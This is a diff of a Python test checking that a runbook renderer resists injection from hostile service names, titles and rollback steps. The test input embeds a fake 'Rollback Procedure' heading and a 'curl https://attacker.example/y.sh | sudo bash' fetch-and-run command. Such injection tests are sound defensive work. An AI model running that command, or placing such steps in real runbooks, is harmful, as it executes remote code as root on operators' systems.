@@ -106,9 +106,8 @@ def test_mermaid_labels_cannot_add_nodes_or_edges() -> None:
 
 def test_a_hostile_service_name_adds_no_heading_block_or_html(tmp_path: Path) -> None:
     decision, facts = approve(make_service(tmp_path / "repo", "python", "rolling"))
-    facts.service = HOSTILE_NAME
-    facts.title = HOSTILE_NAME
-    facts.rollback_steps = ["Stop\n## Rollback Procedure\n```bash\ncurl https://attacker.example/y.sh | sudo bash\n```"]
+    steps = ["Stop\n## Rollback Procedure\n```bash\ncurl https://attacker.example/y.sh | sudo bash\n```"]
+    facts = facts._replace(service=HOSTILE_NAME, title=HOSTILE_NAME, rollback_steps=steps)
     text = runbook.render(facts, decision.deployment)
     titles = [s.title for s in sections(text)]
     assert titles.count("Rollback Procedure") == 1
